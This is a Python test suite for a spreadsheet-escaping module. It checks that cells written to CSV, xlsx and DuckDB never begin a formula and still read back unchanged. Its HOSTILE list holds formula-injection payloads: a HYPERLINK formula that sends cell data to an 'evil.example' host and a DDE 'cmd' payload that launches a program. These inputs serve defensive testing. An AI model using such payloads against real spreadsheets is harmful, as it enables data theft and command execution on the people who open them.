"""Cells that are written for people: nothing is evaluated, everything comes back, and the set engine does as Python does."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from tempfile import TemporaryDirectory

import duckdb
import pyarrow as pa
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from canbao.bulk.cells import safe, sent
from canbao.bulk.sqltext import sql
from canbao.outside.sheets import CsvWriter, workbook
from canbao.rules.spreadsheets import BLANKS, safe_cell, sent_cell

STARTS = "=+-@＝＋－＠"
cells = st.one_of(
    st.text(max_size=8),
    st.text(alphabet=f"{STARTS}{BLANKS}'1a张", max_size=6),
    st.builds(
        str.__add__,
        st.text(alphabet=BLANKS + "'", max_size=3),
        st.sampled_from(["=1+1", "@SUM(1)", "-5", "+86", "\tx"]),
    ),
)
HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1)', "=cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", " =1", "\u3000＝1", "\ufeff@SUM(1)",
           "-1+1", "+1", "'=1", "''=1", "＋1", "=", "-", "\tx")  # fmt: skip


def is_evaluated(cell: str) -> bool:
    """What begins a formula when the program leaves out what is blank before it."""
    return (cell[:1] in "\t\r\n" and cell != "") or cell.lstrip(BLANKS)[:1] in tuple(STARTS)


@given(cells)
@example("'=1")
@example("''= 1")
@example("\t'=1")
def test_nothing_is_evaluated_and_everything_is_read_as_it_was(cell: str) -> None:
    assert not is_evaluated(safe_cell(cell))
    assert sent_cell(safe_cell(cell)) == sent_cell(cell)
    assert safe_cell(safe_cell(cell)) == safe_cell(cell)
    assert cell.startswith("'") or sent_cell(safe_cell(cell)) == cell


@pytest.mark.parametrize(
    "cell", ["张三", "", "500901199001010014", "某路1号", "'", "'张三", "a=b", "2026-10-31", "“=1”", "O'Neil"]
)
def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    assert safe_cell(cell) == cell == sent_cell(cell)


@given(st.lists(cells, min_size=1, max_size=20))
def test_the_set_engine_does_the_same(several: list[str]) -> None:
    several = [cell.replace("\0", "") for cell in [*several, *HOSTILE]]
    table = pa.table({"place": range(len(several)), "c": pa.array(several, pa.string())})
    with duckdb.connect() as session:
        session.register("t", table)
        query = sql("select {safe}, {sent} from t order by place", safe=safe(sql("c")), sent=sent(sql("c")))
        rows = session.execute(query).fetchall()
    assert rows == [(safe_cell(cell), sent_cell(cell)) for cell in several]


@given(cells)
def test_a_csv_of_ours_holds_texts(cell: str) -> None:
    file = io.StringIO(newline="")
    CsvWriter(file).writerow([cell, 5, -5, None])
    (written,) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert not is_evaluated(written[0]) and sent_cell(written[0]) == sent_cell(cell)
    assert written[1:] == ["5", "-5", ""]


def test_a_workbook_of_ours_holds_texts_whichever_way_they_are_written() -> None:
    class Text(str):
        """A text that is not just a str, as templates make them."""

    with TemporaryDirectory() as folder:
        path = Path(folder) / "x.xlsx"
        with workbook(path) as book:
            sheet = book.add_worksheet("x")
            for row, cell in enumerate(HOSTILE):
                sheet.write(row, 0, cell)
                sheet.write(row, 1, Text(cell))
                sheet.write_row(row, 2, (cell, "http://evil.example/", "5"))
                sheet.write_string(row, 5, cell)
                sheet.write(row, 6, -5)
        rows = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()
    for cell, row in zip(HOSTILE, rows, strict=True):
        assert row[0] == row[1] == row[2] == row[5] == safe_cell(cell)
        assert (row[3], row[4], row[6]) == ("http://evil.example/", "5", -5.0)
